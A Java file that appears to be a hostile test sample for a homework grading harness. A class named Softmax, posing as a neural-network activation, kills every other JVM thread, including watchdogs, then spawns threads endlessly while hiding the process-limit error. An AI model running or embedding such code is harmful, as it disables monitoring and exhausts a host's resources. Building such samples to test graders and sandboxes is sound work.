package homework;

import backprop.api.Activation;
import backprop.api.Matrix;

/**
 * Hostile: interrupts and stops every other thread of its JVM, so that no watchdog in it is left, then starts
 * threads without end, swallowing the error the kernel's process limit raises. Only the grader, which counts the
 * JVM's threads from outside, can tell.
 */
public final class Softmax implements Activation {
    public Softmax() {}

    @Override
    @SuppressWarnings("removal")
    public Matrix forward(Matrix z) {
        for (Thread t : Thread.getAllStackTraces().keySet()) {
            if (t != Thread.currentThread()) {
                try {
                    t.interrupt();
                    t.stop();
                } catch (RuntimeException e) {
                    // not allowed: on to the next
                }
            }
        }
        Thread.setDefaultUncaughtExceptionHandler(null);
        while (true) {
            try {
                Thread t = new Thread(() -> {
                    try {
                        Thread.sleep(Long.MAX_VALUE);
                    } catch (InterruptedException e) {
                        // keep going
                    }
                });
                t.setDaemon(true);
                t.start();
            } catch (Throwable e) {
                // the kernel's process limit: swallowed, so that the harness never hears of it
            }
        }
    }

    @Override
    public Matrix backward(Matrix z, Matrix h, Matrix dLdh) {
        return dLdh;
    }
}
